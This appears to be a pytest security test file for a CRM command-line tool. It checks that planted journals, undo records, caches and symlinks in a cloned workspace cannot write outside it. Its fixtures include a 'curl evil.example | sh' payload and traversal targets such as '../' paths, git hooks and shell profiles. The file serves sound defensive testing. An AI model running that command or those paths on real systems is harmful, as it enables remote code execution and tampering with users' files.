"""A workspace that a stranger made: whatever lies in it, nothing outside it changes."""

import os
import shutil
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest

from crmcli.store.transactions import journal
from crmcli.store.transactions.journal import FileChange, Journal
from tests.harness.crm import Crm

RICHARD = "xgcej9p8"
AT = datetime(2026, 11, 23, 9, tzinfo=UTC)
EVIL = b"curl evil.example | sh\n"
READING = (["list"], ["due"], ["show", RICHARD], ["undo", "--list"], ["check"])
WRITING = (["note", RICHARD, "-m", "x"], ["create", "Neuf"], ["tick"])


def packed(*changes: FileChange, user: str = "marie") -> bytes:
    """The bytes of a journal as a stranger writes them, who asks nobody whether it is believed."""
    made = Journal(command="crm note", user=user, at=AT, changes=changes)
    body = msgspec.msgpack.encode(made)
    return journal.MAGIC + journal.hash_body(body) + b"\n" + body


def writes(path: str, before: bytes | None = None) -> FileChange:
    return FileChange(path=path, before=before, after=EVIL)


def plant(crm: Crm, name: str, content: bytes) -> Path:
    """A file below `.crm`, as it comes with a clone."""
    place = crm.data / ".crm" / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(content)
    return place


def surroundings(crm: Crm) -> dict[str, bytes]:
    """All files beside the workspace, and those in it that crm never writes."""
    outside = [path for path in crm.root.parent.rglob("*") if path.is_file() and ".local" not in path.parts]
    data = str(crm.data)
    return {str(path): path.read_bytes() for path in outside if not str(path).startswith(data)}


def victims(crm: Crm) -> dict[str, str]:
    """Paths that a journal may name, by what they try."""
    home = crm.root.parent / "home"
    home.mkdir(exist_ok=True)
    (home / ".bash_profile").write_text("# mine\n")
    (crm.root / ".git").mkdir(exist_ok=True)
    (crm.root / ".git" / "config").write_text("[core]\n")
    (crm.root / "linked").symlink_to(home)
    (crm.data / "opportunities" / "away").symlink_to(home)
    return {
        "absolute": str(home / ".bash_profile"),
        "new file of the user": str(home / ".zshrc"),
        "dots": f"../{home.name}/.bash_profile",
        "dots inside": f"pipeline_data/opportunities/../../../{home.name}/x.yaml",
        "git's configuration": ".git/config",
        "a git hook": ".git/hooks/post-commit",
        "a hook of crm": "pipeline_data/hooks/post-change",
        "a template": "templates/email/accuse-reception.j2",
        "a questionnaire": "questionnaires/pag.yaml",
        "a Makefile": "Makefile",
        "through a link": "linked/x.yaml",
        "through a link among records": "pipeline_data/opportunities/away/x.yaml",
        "what is derived": f"pipeline_data/.crm/derived-{os.getuid()}-{'0' * 32}/config",
        "another journal": "pipeline_data/.crm/journal/x",
        "with a NUL": "pipeline_data/opportunities/x\0.yaml",
        "nothing": "",
        "a directory": "pipeline_data/opportunities/",
        "twice a slash": "pipeline_data//opportunities/x.yaml",
        "here": "./pipeline_data/crm.yaml",
        "a hidden record": "pipeline_data/opportunities/.git/x.yaml",
    }


CASES = ["absolute", "new file of the user", "dots", "dots inside", "git's configuration", "a git hook", "a hook of crm",
         "a template", "a questionnaire", "a Makefile", "through a link", "through a link among records", "what is derived",
         "another journal", "with a NUL", "nothing", "a directory", "twice a slash", "here", "a hidden record"]  # fmt: skip


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("first", [["list"], ["note", RICHARD, "-m", "x"]], ids=["a reader", "a writer"])
def test_a_planted_journal_writes_nothing_that_crm_does_not_write(
    crm: Crm, case: str, first: list[str]
) -> None:
    path = victims(crm)[case]
    before = surroundings(crm)
    config = (crm.data / "crm.yaml").read_bytes()
    place = crm.root / path.replace("\0", "") if path else crm.root
    there = place.read_bytes() if place.is_file() else None
    pending = plant(crm, "journal/pending", packed(writes(path, there)))
    ended = crm(*first, code=7)
    assert "quarantine/journal-1" in ended.err
    assert not pending.exists()
    for words in (*READING, *WRITING):
        run_whatever_it_says(crm, words)
    assert surroundings(crm) == before
    assert (crm.data / "crm.yaml").read_bytes() == config
    assert not (crm.root.parent / "home" / "x.yaml").exists()


@pytest.mark.parametrize("case", CASES)
def test_a_planted_undo_record_undoes_nothing_else(crm: Crm, case: str) -> None:
    path = victims(crm)[case]
    before = surroundings(crm)
    place = crm.root / path.replace("\0", "") if path else crm.root
    there = place.read_bytes() if place.is_file() else None
    back = FileChange(path=path, before=EVIL, after=there)
    plant(crm, "done/00000007", packed(back))
    code = 5 if case == "through a link among records" else 3  # a path of crm's own, but for the link
    assert (crm("undo", "--list", "-o", "jsonl").out == "") == (code == 3)
    for words in (["undo"], ["undo", "7"], ["undo", "7", "--force"]):
        assert crm(*words, code=code).out == ""
    assert surroundings(crm) == before


def test_what_a_stranger_can_do_with_a_journal_is_what_he_could_do_by_hand(crm: Crm) -> None:
    place = crm.file(RICHARD)
    path = str(place.relative_to(crm.root))
    other = place.read_bytes().replace(b"PAG Rika", b"PAG Zika")
    change = FileChange(path=path, before=place.read_bytes(), after=other)
    plant(crm, "journal/pending", packed(change))
    crm("list")
    assert place.read_bytes() == other


@pytest.mark.parametrize("content", [
    b"", b"crm-journal 1 ", b"x" * 1000, journal.MAGIC + journal.hash_body(b"\xc1") + b"\n\xc1",
    journal.MAGIC + journal.hash_body(b"\x80") + b"\n\x80", journal.MAGIC + journal.hash_body(b"") + b"\n",
], ids=["empty", "cut", "other", "no msgpack", "no journal", "no body"])  # fmt: skip
def test_what_is_no_journal_is_put_aside_and_told(crm: Crm, content: bytes) -> None:
    plant(crm, "journal/pending", content)
    before = crm.records()
    assert "its journal is not used" in crm("list", code=7).err
    crm("list")
    kept = {path: each for path, each in crm.records().items() if "/quarantine/" not in path}
    assert kept == {path: each for path, each in before.items() if "/quarantine/" not in path}


def test_undo_records_with_any_number_do_not_end_undoing(crm: Crm) -> None:
    plant(crm, "done/999999999999999999", b"x")
    plant(crm, "done/99999999", b"x")
    crm("tag", RICHARD, "--add", "premier")
    crm("tag", RICHARD, "--add", "second")
    crm("undo")
    text = crm.file(RICHARD).read_text("utf-8")
    assert "  - premier\n" in text
    assert "  - second\n" not in text


def planted_set(crm: Crm) -> Path:
    """A directory of derived files as a stranger plants it: whole, with checksums that are right."""
    (real,) = (crm.data / ".crm").glob("derived-*")
    planted = real.with_name(f"derived-{os.getuid()}-{'a' * 32}")
    shutil.copytree(real, planted)
    shutil.rmtree(real)
    return planted


def other_configuration(content: bytes) -> bytes:
    """What is remembered of the configuration, with another label, and the checksum right."""
    payload = content[4:].replace("Devis envoyé".encode(), b"Devis envoyE ")
    return zlib.crc32(payload).to_bytes(4) + payload


def test_a_planted_configuration_is_not_believed(crm: Crm) -> None:
    planted = planted_set(crm)
    content = other_configuration((planted / "config").read_bytes())
    (planted / "config").write_bytes(content)
    plant(crm, "config", content)
    assert "envoyE" not in crm("list").out
    assert "envoyE" not in crm("config", "show").out


def test_a_planted_index_is_not_believed(crm: Crm) -> None:
    (place,) = (crm.data / ".crm").glob("derived-*")
    before = crm("list", "-o", "jsonl").out
    content = (place / "index.sqlite3").read_bytes()
    planted = planted_set(crm)
    (planted / "index.sqlite3").write_bytes(content.replace("Poêle".encode(), b"Poule "))
    for name in ("index.sqlite3", "index.seen"):
        plant(crm, name, (planted / name).read_bytes())
    assert crm("list", "-o", "jsonl").out == before


def test_a_set_is_believed_only_where_this_user_made_it(crm: Crm) -> None:
    """The same bytes under the same name: another directory has another inode, another path another entry."""
    crm("list")
    (place,) = (crm.data / ".crm").glob("derived-*")
    copy = place.with_name("copy")
    shutil.copytree(place, copy)
    shutil.rmtree(place)
    copy.rename(place)
    content = other_configuration((place / "config").read_bytes())
    (place / "config").write_bytes(content)
    assert "envoyE" not in crm("list").out
    moved = crm.root.with_name("moved")
    crm.root.rename(moved)
    assert "envoyE" not in Crm(moved)("list").out


def test_sets_that_are_not_believed_do_not_pile_up(crm: Crm) -> None:
    for number in range(6):
        crm.root.rename(crm.root.with_name(f"place-{number}"))
        crm = Crm(crm.root.with_name(f"place-{number}"))
        crm("list")
    assert len(list((crm.data / ".crm").glob("derived-*"))) <= 3


def test_a_planted_set_does_not_end_erasing(crm: Crm) -> None:
    crm("list")
    sets = [crm.derived, crm.derived.with_name(f"derived-{os.getuid()}-{'a' * 32}")]
    for place in sets:
        (place / "inner").mkdir(parents=True)
        (place / "inner" / "x").write_bytes(b"x")
        (place / "copy").write_bytes(b"Pierre RICHARD")
    sets[1].with_name(f"derived-{os.getuid()}-{'b' * 32}").write_bytes(b"a file")
    crm("contact", "erase", "f8dz9xw4", "--yes")
    assert not [place for place in sets if (place / "copy").exists()]
    crm("list")


LINKS: dict[str, Callable[[Crm, Path], Path]] = {
    "draft of a record": lambda crm, aim: crm.file(RICHARD).with_name(f".{crm.file(RICHARD).name}.crm-new"),
    "draft of the journal": lambda crm, aim: crm.data / ".crm" / "journal" / "draft",
    "draft of the seal": lambda crm, aim: crm.derived / "index.seen.new",
    "draft of the index": lambda crm, aim: crm.derived / "index.sqlite3.new",
    "journal of the index": lambda crm, aim: crm.data / ".crm" / "index.sqlite3-journal",
    "last tick": lambda crm, aim: crm.data / ".crm" / "ticked",
    "memory of a report": lambda crm, aim: crm.data / ".crm" / "reported" / "morning" / "told",
    "lock of a report": lambda crm, aim: crm.data / ".crm" / "reported" / "morning.lock",
    "next undo record": lambda crm, aim: crm.data / ".crm" / "done" / "00000001",
    "mail waiting": lambda crm, aim: crm.data / "outbox" / "planted.eml",
    "epoch": lambda crm, aim: crm.data / ".crm" / "epoch",
    "a put aside journal": lambda crm, aim: crm.data / "quarantine" / "journal-1",
}  # fmt: skip
EVERYTHING = (
    ["note", RICHARD, "-m", "x"], ["create", "Neuf", "--contact", "Jean <jean@example.org>"], ["list"], ["tick"],
    ["due", "--mail", "--since-last", "morning"], ["move", RICHARD, "--to", "negotiation"], ["undo"], ["check"],
    ["contact", "erase", "f8dz9xw4", "--yes"],
)  # fmt: skip


@pytest.mark.parametrize("name", LINKS)
def test_a_link_at_a_name_that_can_be_guessed_is_never_written_through(crm: Crm, name: str) -> None:
    crm("list")
    aim = crm.root.parent / "mine"
    aim.write_bytes(b"mine\n")
    place = LINKS[name](crm, aim)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.unlink(missing_ok=True)
    place.symlink_to(aim)
    for words in EVERYTHING:
        run_whatever_it_says(crm, words)
        assert aim.read_bytes() == b"mine\n", words
        assert aim.stat().st_nlink == 1


FOLDERS = (".crm", ".crm/journal", ".crm/done", ".crm/reported", ".crm/reported/morning", "outbox", "quarantine", "mail",
           "opportunities", "opportunities/2026", "contacts")  # fmt: skip


@pytest.mark.parametrize("folder", FOLDERS)
def test_a_directory_that_is_a_link_is_never_written_through(crm: Crm, folder: str) -> None:
    place, aim = crm.data / folder, crm.root.parent / "elsewhere"
    if place.exists():
        shutil.move(place, aim)
    aim.mkdir(exist_ok=True)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(aim)
    before = {str(path): path.read_bytes() for path in aim.rglob("*") if path.is_file()}
    for words in EVERYTHING:
        run_whatever_it_says(crm, words)
        now = {str(path): path.read_bytes() for path in aim.rglob("*") if path.is_file()}
        assert now == before, words


def run_whatever_it_says(crm: Crm, words: list[str]) -> None:
    """Run a command that may well be refused; a traceback is no answer."""
    ended = crm.run(*words)
    assert "Traceback" not in ended.err, ended.err
    assert ended.code in (0, 1, 2, 3, 5, 7, 75), ended


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
def test_everything_private_is_private_whatever_the_umask(crm: Crm, umask: int) -> None:
    shutil.rmtree(crm.data / ".crm")
    old = os.umask(umask)
    try:
        for words in EVERYTHING[:5]:
            run_whatever_it_says(crm, words)
    finally:
        os.umask(old)
    modes = {
        str(path.relative_to(crm.data)): path.stat().st_mode & 0o777
        for path in (crm.data / ".crm").rglob("*")
    }
    assert modes
    assert {path: oct(mode) for path, mode in modes.items() if mode & 0o077} == {}
    new = [path for path in crm.data.rglob("*") if path.is_file() and "neuf" in path.name]
    assert [oct(path.stat().st_mode & 0o777) for path in new] == ["0o600"] * len(new)


def test_a_workspace_of_a_group_stays_one(crm: Crm) -> None:
    shutil.rmtree(crm.data / ".crm")
    for path in [crm.data, *crm.data.rglob("*")]:
        path.chmod(0o2770 if path.is_dir() else 0o660)
    crm("create", "Neuf", "--contact", "Jean <jean@example.org>")
    new = [path for path in crm.data.rglob("*") if path.is_file() and "neuf" in path.name]
    assert [oct(path.stat().st_mode & 0o777) for path in new] == ["0o660"]
    shared = {
        path.name: path.stat().st_mode & 0o7777
        for path in [crm.data / ".crm", *(crm.data / ".crm").glob("*")]
    }
    assert shared.pop(crm.derived.name) & 0o777 == 0o700
    assert set(shared.values()) == {0o2770}


NO_HOME = {"HOME": "", "XDG_STATE_HOME": "relative/state", "CRM_STATE_DIR": "relative"}


def test_the_home_of_the_password_file_serves_where_home_is_unset(crm: Crm) -> None:
    del crm.environment["HOME"]
    assert crm("list", XDG_STATE_HOME="relative").err == ""
    assert not (crm.root / "relative").exists()


def test_without_a_place_for_state_files_are_read_and_that_is_said_once(crm: Crm) -> None:
    blocked = crm.root.parent / "file"
    blocked.write_text("no directory")
    shutil.rmtree(crm.data / ".crm")
    first = crm("list", CRM_STATE_DIR=str(blocked))
    assert first.err.count("\n") == 1
    assert "CRM_STATE_DIR" in first.err
    again = crm("list", CRM_STATE_DIR=str(blocked))
    assert (again.out, again.err) == (first.out, "")
    assert crm("list").out == first.out


@pytest.mark.parametrize(
    "name", ["pipeline_data", "questionnaires", "templates", "pipeline_data/opportunities"]
)
def test_a_new_workspace_is_not_laid_down_through_a_link(crm: Crm, name: str) -> None:
    root, aim = crm.root.parent / "new", crm.root.parent / "aim"
    (root / name).parent.mkdir(parents=True)
    aim.mkdir()
    (root / name).symlink_to(aim)
    assert "link" in crm.refused("init", "--demo", str(root), code=5)
    assert list(aim.iterdir()) == []
    assert [path for path in root.rglob("*") if path.is_file()] == []
